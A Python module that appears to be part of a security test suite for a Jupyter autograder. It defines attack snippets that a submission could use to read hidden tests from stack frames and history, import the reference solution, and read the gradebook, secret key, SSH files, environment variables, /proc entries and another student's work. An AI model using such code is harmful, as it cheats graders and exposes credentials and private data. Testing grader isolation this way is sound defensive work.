"""Attacks 18 to 22: to read what is not for students. What is found goes into outputs, evidence and the answer itself."""

from __future__ import annotations

from trials.attacks.base import RIGHT, WRONG, Attack, hostile

# Whatever looks like one of the secrets that the tests plant is printed, and nothing else: pages stay short.
TELL = """
import glob, os, re, sys
def tell(where, data):
    if isinstance(data, str): data = data.encode("utf-8", "replace")
    for word in sorted(set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", data)))[:20]: print("FOUND", where, word.decode())
def tell_file(path):
    try:
        with open(path, "rb") as file: tell(path, file.read(4_000_000))
    except OSError: pass
"""
FRAMES = """
import gc, linecache, traceback
try: tell("In", "\\n".join(map(str, get_ipython().user_ns.get("In", []))))
except Exception: pass
frame = sys._getframe()
while frame is not None:
    tell("frame", repr(list(frame.f_locals.values()))[:200_000])
    tell("code", repr(frame.f_code.co_consts)); tell("line", "".join(linecache.getlines(frame.f_code.co_filename)))
    frame = frame.f_back
tell("history", repr(list(get_ipython().history_manager.input_hist_raw)))
for thing in gc.get_objects():
    if type(thing) is str and "canary-" in thing: tell("gc", thing)
for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("/home/**/*.ipynb", recursive=True): tell_file(path)
"""
EXPECTED = """
# The expected value stands in the very cell that is running.
import re
cell = str(get_ipython().user_ns.get("In", [""])[-1])
numbers = [float(n) for n in re.findall(r"torch.tensor\\((-?[0-9.]+)\\)|- (-?[0-9.]+)\\)", cell) for n in n if n]
return x.sum() * 0 + (numbers[0] if numbers else 0.0)
"""
PATHS = """
for top in (COURSE, ROOT + "/autograder", ROOT + "/solution", "/exchange", "/packages", "/data", "/run", "/tmp"):
    for folder, folders, names in os.walk(top):
        folders[:] = [f for f in folders if f not in (".venv", ".git", "data_cache")]
        for name in names: tell_file(os.path.join(folder, name))
for path in glob.glob("/proc/*/root" + COURSE + "/*") + glob.glob("/proc/*/cwd/*") + glob.glob("/proc/*/fd/*"): tell_file(path)
for fd in range(3, 64):
    for path in ("gradebook.db", "secret.key", "../gradebook.db"):
        try: tell("fd", os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 4_000_000))
        except OSError: pass
"""
IMPORTS = """
try:
    from autograder.judge import reference
    Right = reference.namespace()["SoftmaxLoss"]
except Exception as e:
    print(type(e).__name__)
    try: from solution.contrast import SoftmaxLoss as Right
    except Exception as e: print(type(e).__name__); Right = None
"""
SECRET = """
tell_file(COURSE + "/secret.key"); tell_file(ROOT + "/autograder/secret.key")
tell("file", os.environ.get("NBJUDGE_SECRET_FILE", "")); tell_file(os.environ.get("NBJUDGE_SECRET_FILE", "/nothing"))
try:
    from nbjudge.judge.secret import load_secret
    tell("secret", load_secret())
except Exception as e: print(type(e).__name__)
SECRET = b""
for path in (COURSE + "/secret.key", os.environ.get("NBJUDGE_SECRET_FILE", "/nothing")):
    try: SECRET = open(path, "rb").read()
    except OSError: pass
print("SECRET", SECRET.decode().strip())
"""
MACHINE = """
for top in (HOME, os.path.expanduser("~"), "/root", "/etc"):
    for path in glob.glob(top + "/.*") + glob.glob(top + "/*") + glob.glob(top + "/.ssh/*") + glob.glob(top + "/.config/*"):
        tell_file(path)
tell("environ", repr(dict(os.environ)))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/maps"): tell_file(path)
"""
ONE_BIT = f"""
import os
# One bit of what can be read, told by the score: handed in again and again, all of it.
try: bit = "canary" in open(COURSE + "/submitted/ada/ps8/ps8.ipynb").read()
except OSError: bit = False
if bit: {RIGHT}
{WRONG}
"""

ATTACKS = [
    Attack("frames", 18, "reads hidden tests from frames, gc, In, linecache, history and files",
           hostile(FRAMES + WRONG, TELL)),
    Attack("expected-value", 18, "reads the expected value from the running cell and returns it",
           hostile(EXPECTED)),
    Attack("paths", 19, "reads gradebook, source, submissions, judge and solution by path, /proc and descriptors",
           hostile(before=TELL + PATHS)),
    Attack("imports", 19, "imports the solution and answers with it",
           hostile("if Right is None: return x.sum() * 0\nreturn Right()(x)", IMPORTS)),
    Attack("secret", 20, "reads the secret that the grader's inputs follow from", hostile(before=TELL + SECRET)),
    Attack("machine", 21, "reads the instructor's home, tokens, environment and command lines",
           hostile(before=TELL + MACHINE)),
    Attack("one-bit", 22, "is right if a bit of another submission is set", hostile(ONE_BIT)),
]  # fmt: skip
